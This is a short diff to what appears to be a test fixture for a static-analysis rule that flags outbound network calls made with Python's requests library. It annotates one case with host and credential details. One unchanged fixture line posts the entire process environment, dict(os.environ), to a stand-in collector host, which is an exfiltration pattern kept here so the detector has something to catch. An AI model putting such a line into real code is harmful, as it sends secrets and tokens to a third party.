@@ -11,7 +11,7 @@ import requests as r
 import urllib3
 from requests import Session, post
 
-# ruleid: network.requests
+# ruleid: network.requests host=api.example.net creds=-
 requests.get("https://api.example.net/items")
 # ruleid: network.requests
 r.post("https://collector.example.net/v1", json={"env": dict(os.environ)})
